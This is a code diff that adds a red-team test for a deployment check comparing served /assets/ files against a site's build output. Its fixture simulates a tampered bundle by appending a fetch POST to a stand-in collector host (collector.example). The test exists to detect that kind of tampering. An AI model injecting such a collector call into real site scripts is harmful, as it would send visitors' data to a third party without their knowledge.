@@ -5,6 +5,7 @@ import { describe, expect, it } from 'vitest';
 import { pageFile } from '../../scripts/prerender/prerender-plugin';
 import { builtFileOf, DEPLOYED_PAGES } from '../../scripts/check-deployment/pages';
 import {
+  assetsNotAsBuilt,
   buildFingerprint,
   canonicalProblems,
   entryOf,
@@ -306,5 +307,34 @@ describe("the pages' own address", () => {
     }
     const page = new URL('https://www.floors.example/realtors');
     expect(manifestsOf('<link rel="manifest" href="/site.webmanifest"><link rel="manifest" href="https://cdn.example/m.json"><link rel="icon" href="/favicon.svg">', page)).toEqual(['/site.webmanifest']);
+  });
+});
+
+describe("the build's files as served (red-team, session 24)", () => {
+  it('names a file under /assets/ served with other bytes than the build has under its name, and one the build does not have', () => {
+    const buildDir = fs.mkdtempSync(path.join(os.tmpdir(), 'assets-as-built-'));
+    try {
+      fs.mkdirSync(path.join(buildDir, 'assets'));
+      fs.writeFileSync(path.join(buildDir, 'assets', 'index-AbC123.js'), 'import"./form-Xy1.js";console.log(1);\n');
+      fs.writeFileSync(path.join(buildDir, 'assets', 'index-Css1.css'), 'body{margin:0}');
+      const ok = (body: string): Reply => ({ status: 200, headers: { 'content-type': 'text/javascript' }, body });
+      const asBuilt = new Map([
+        ['/assets/index-AbC123.js', ok('import"./form-Xy1.js";console.log(1);\n')],
+        ['/assets/index-Css1.css', ok('body{margin:0}')],
+        // Not the build's folder, and not a file that answered: other lines judge those.
+        ['/cdn-cgi/scripts/email-decode.min.js', ok('x')],
+        ['/assets/missing-Q1.js', { status: 404, headers: {}, body: 'Not found' }],
+      ]);
+      expect(assetsNotAsBuilt(asBuilt, buildDir)).toEqual([]);
+      const changed = new Map(asBuilt);
+      changed.set('/assets/index-AbC123.js', ok('import"./form-Xy1.js";console.log(1);\nfetch("https://collector.example/",{method:"POST"})'));
+      changed.set('/assets/form-Xy1.js', ok('export{}'));
+      expect(assetsNotAsBuilt(changed, buildDir)).toEqual([
+        `/assets/index-AbC123.js (89 bytes served, 38 in ${buildDir}/; from character 38 it serves "fetch("https://collector.example/",{method:"POST"})")`,
+        `/assets/form-Xy1.js (which ${buildDir}/ does not have)`,
+      ]);
+    } finally {
+      fs.rmSync(buildDir, { recursive: true, force: true });
+    }
   });
 });
